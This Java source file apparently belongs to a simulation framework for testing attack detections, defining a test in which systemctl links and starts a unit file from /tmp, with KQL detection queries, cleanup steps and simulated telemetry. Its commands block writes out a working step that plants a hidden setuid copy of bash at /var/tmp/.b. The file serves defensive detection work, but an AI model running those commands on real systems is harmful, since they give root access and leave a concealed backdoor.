package org.conshelf.simulate;

/// A unit file is used where it lies.
final class SystemctlLink {
    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "systemctl-link", "systemctl links and starts a unit file out of /tmp")
                    .on(SimulatedTest.Platform.LINUX)
                    .techniques("T1569.003", "T1543.002")
                    .behaviour(
                            """
                            A user who may run systemctl as root, by sudo or because its program has root's rights, writes a unit file
                            into /tmp and has systemctl link and enable it there. No file is written below
                            /etc/systemd/system but the links. The service gives bash root's rights.
                            """)
                    .signal(
                            "systemctl is started with link or enable and a unit's path in /tmp.",
                            """
                            DeviceProcessEvents
                            | where FileName == "systemctl" and ProcessCommandLine matches regex @"\\b(link|enable)\\b.*/tmp/"
                            """)
                    .signal(
                            "sudo tells of the same command.",
                            """
                            Syslog
                            | where ProcessName == "sudo" and SyslogMessage has_all ("COMMAND", "systemctl", "link", "/tmp/")
                            """)
                    .signal(
                            "systemd runs chmod u+s on a shell.",
                            """
                            DeviceProcessEvents
                            | where InitiatingProcessId == 1 and ProcessCommandLine has "chmod u+s"
                            """)
                    .commands(
                            """
                            printf '[Service]\\nType=oneshot\\nExecStart=/bin/sh -c "cp /bin/bash /var/tmp/.b; chmod u+s /var/tmp/.b"\\n' > /tmp/perm.service
                            sudo systemctl link /tmp/perm.service
                            sudo systemctl start perm.service
                            """)
                    .cleanUp(
                            """
                            sudo systemctl disable perm.service
                            sudo rm -f /tmp/perm.service /var/tmp/.b
                            sudo systemctl daemon-reload
                            """)
                    .plays(stage -> RootShell.onEachHost(stage, SystemctlLink::play));

    private SystemctlLink() {}

    private static void play(RootShell shell) {
        var host = shell.host();
        var user = shell.user();
        host.created(user, "/tmp/perm.service");
        host.stage().pass(6_000);
        var link = host.sudo(user, "systemctl", "link", "/tmp/perm.service");
        host.enabled(link, "/etc/systemd/system/perm.service", "/tmp/perm.service");
        host.reloaded();
        host.stage().pass(3_000);
        host.sudo(user, "systemctl", "start", "perm.service");
        host.started("perm.service", "perm.service");
        var command = "cp /bin/bash /var/tmp/.b; chmod u+s /var/tmp/.b";
        var sh = host.serviceProcess("/bin/sh", "-c", command);
        host.run(sh, "cp", "/bin/bash", "/var/tmp/.b");
        host.run(sh, "chmod", "u+s", "/var/tmp/.b");
        host.ended("perm.service");
        host.stage().pass(40_000);
        var disable = host.sudo(user, "systemctl", "disable", "perm.service");
        host.deleted(disable, "/etc/systemd/system/perm.service");
    }
}
